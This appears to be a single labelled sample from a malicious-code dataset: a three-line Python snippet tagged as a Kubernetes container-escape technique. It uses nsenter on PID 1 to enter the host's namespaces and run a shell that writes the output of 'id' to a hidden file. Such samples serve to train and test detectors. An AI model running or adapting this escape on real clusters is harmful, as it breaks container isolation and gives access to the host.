# label: malicious family=k8s techniques=T1033,T1059.004,T1564.001,T1611 lines=3
import subprocess
subprocess.run(["nsenter", "--target", "1", "--mount", "--uts", "--ipc", "--net", "--pid", "--", "/bin/sh", "-c", "id > /tmp/.pwn"])
